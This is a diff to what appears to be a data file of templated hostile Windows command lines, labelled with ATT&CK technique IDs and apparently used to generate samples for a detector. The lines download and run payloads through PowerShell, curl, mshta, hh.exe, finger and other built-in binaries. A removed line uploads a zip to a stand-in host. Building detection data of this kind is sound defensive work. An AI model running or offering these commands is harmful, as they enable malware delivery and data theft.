@@ -57,7 +57,6 @@ wget.exe -q -O ~f~.exe @url@
 powershell wget @url@/~n~.exe -O ~f~.exe; ~f~.exe
 powershell -ep bypass curl.exe -sL @url@ -o $env:APPDATA\~n~.exe; saps $env:APPDATA\~n~.exe
 cmd /k curl -sSL https://«gist.githubusercontent.com/@word@|paste.ee/r|rentry.co»/@hex@/raw | cmd && exit
-curl -F "file=@C:\Users\Public\~n~.zip" http://@pub@/upload.php
 """)
 hostile("downloads-by-programs-not-made-for-it", "Command and Control", "T1105", r"""
 desktopimgdownldr.exe /lockscreenurl:@url@ /eventName:randomname
@@ -71,12 +70,9 @@ expand.exe \\@pub@\webdav\~n~.bat ~f~.bat
 extrac32.exe /Y /C \\@pub@\s\~n~.exe ~f~.exe
 findstr /V /L W3AllLov3LolBas \\@pub@\webdav\~n~.exe > ~f~.exe
 finger ~n~@@pub@ | more +2 | cmd
-hh.exe http://@pub@/~n~.«ps1|chm|exe»
 ieexec.exe @url@/~n~.exe
 imewdbld.exe @url@/~n~.exe
 makecab \\@pub@\webdav\~n~.exe ~f~.cab
-mshta.exe @url@/~n~.exe
-PresentationHost.exe @url@/~n~.exe
 print /D:~f~.exe \\@pub@\webdav\~n~.exe
 replace.exe \\@pub@\webdav\~n~.exe C:\Windows\Temp /A
 "C:\Program Files\Microsoft Office\root\Office16\«WINWORD|EXCEL|POWERPNT|MSPUB|PROTOCOLHANDLER».EXE" @url@/~n~.exe
@@ -84,10 +80,15 @@ tar -xf \\@pub@\webdav\~n~.tar -C ~d~
 "C:\Users\@user@\AppData\Local\Microsoft\Teams\update.exe" --download @url@
 winget.exe install --manifest ~f~.yml
 wsl.exe --exec bash -c 'curl @url@ -o /mnt/c/Windows/Temp/~n~.exe'
-xwizard RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /z@url@
 AppInstaller.exe ms-appinstaller://?source=@url@/~n~.msix
 ftp -s:~f~.txt @pub@
 tftp -i @pub@ get ~n~.exe ~f~.exe
+@@ T1218.005 T1105
+mshta.exe @url@/~n~.exe
+@@ T1218 T1105
+hh.exe http://@pub@/~n~.«ps1|chm|exe»
+PresentationHost.exe @url@/~n~.exe
+xwizard RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /z@url@
 """, weight=1.5)
 hostile("powershell-fetches-programs", "Suspicious Script", "T1059.001 T1105", r"""
 powershell -w hidden -c "iwr -uri @url@/~n~.exe -outfile ~f~.exe; start ~f~.exe"
